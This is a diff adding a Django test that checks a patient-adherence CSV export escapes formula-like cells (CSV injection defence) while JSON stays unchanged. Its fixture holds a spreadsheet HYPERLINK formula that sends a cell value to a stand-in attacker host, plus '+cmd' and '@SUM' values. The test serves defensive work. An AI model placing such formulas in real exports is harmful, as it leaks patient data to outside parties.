@@ -104,6 +104,29 @@ def test_json_and_csv_over_the_api_agree(client, world, example):
     assert accept["Content-Type"].startswith("text/csv")
 
 
+def test_csv_cells_that_start_like_formulas_are_written_as_text(client, world, example):
+    """A reference, therapist or protocol name typed as a formula opens as text in a spreadsheet (OWASP)."""
+    from patients.models import Assignment, Patient
+
+    a = example[0]
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    Patient.objects.filter(pk=a.patient_id).update(external_ref=hyperlink)
+    Assignment.objects.filter(pk=a.pk).update(protocol_name="@SUM(1+1)")
+    world.therapist_a.first_name, world.therapist_a.last_name = "+cmd", "-x"
+    world.therapist_a.save()
+    client.force_login(world.therapist_a)
+    params = {"start": START, "end": END, "patient": a.patient_id}
+    rows = list(csv.DictReader(io.StringIO(client.get(URL, {**params, "format": "csv"}).content.decode())))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["external_ref"] == "'" + hyperlink
+    assert row["protocol"] == "'@SUM(1+1)"
+    assert row["therapist"].startswith("'+cmd")
+    # Numbers Backstep computes stay numbers; JSON is unchanged.
+    assert (row["prescribed"], row["completed_days"], row["adherence_pct"]) == ("6.00", "7", "97.6")
+    assert client.get(URL, params).json()["rows"][0]["external_ref"] == hyperlink
+
+
 def test_group_by_week(client, world, example):
     client.force_login(world.therapist_a)
     body = client.get(URL, {"start": START, "end": END, "group_by": "week", "patient": example[0].patient_id}).json()
